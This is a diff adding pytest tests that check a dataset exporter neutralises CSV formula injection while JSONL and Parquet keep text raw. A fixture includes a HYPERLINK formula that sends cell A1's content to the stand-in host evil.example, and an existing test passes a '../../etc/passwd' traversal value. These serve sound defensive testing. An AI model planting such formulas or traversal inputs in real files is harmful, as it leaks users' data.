@@ -354,3 +354,42 @@ def test_release_image_path_is_content_addressed():
     assert release_image_path(sha256=sha, extension=".JPG") == f"images/ab/{sha}.jpg"
     with pytest.raises(ValueError, match="Not a SHA-256"):
         release_image_path(sha256="../../etc/passwd", extension="jpg")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rleading return",
+]
+
+
+def test_csv_neutralises_formulas_and_other_formats_keep_the_raw_text(tmp_path, source_rows):
+    """OWASP's CSV injection rule: a caption or licence a spreadsheet would run as a formula
+    reads back from pairs.csv with a leading apostrophe; JSONL and Parquet keep it raw;
+    numbers (negative ones included) are untouched."""
+    rows = [dict(row) for row in source_rows[: len(FORMULAS)]]
+    for row, text in zip(rows, FORMULAS, strict=True):
+        row["caption"] = text
+        row["license"] = text
+    directory = build(tmp_path / "release", rows)
+    with open(directory / PAIRS_CSV, encoding="utf-8", newline="") as fh:
+        records = list(csv.DictReader(fh))
+    expected_rows = [normalise_row(row) for row in rows]
+    for record, row in zip(records, expected_rows, strict=True):
+        assert record["caption"] == "'" + row["caption"]
+        assert record["license"] == "'" + row["license"]
+        assert float(record["confidence"]) == row["confidence"]
+    jsonl = [json.loads(line) for line in (directory / PAIRS_JSONL).read_text().splitlines()]
+    assert [r["caption"] for r in jsonl] == [row["caption"] for row in expected_rows]
+    table = pq.read_table(directory / PAIRS_PARQUET).to_pylist()
+    assert [r["license"] for r in table] == [row["license"] for row in expected_rows]
+
+
+def test_spreadsheet_safe_leaves_ordinary_cells():
+    from datasets.releases.exporters.tables import spreadsheet_safe
+
+    for value in ("A dog", "", "1-2", "a=b", -1, -0.5, 3):
+        assert spreadsheet_safe(value) == value
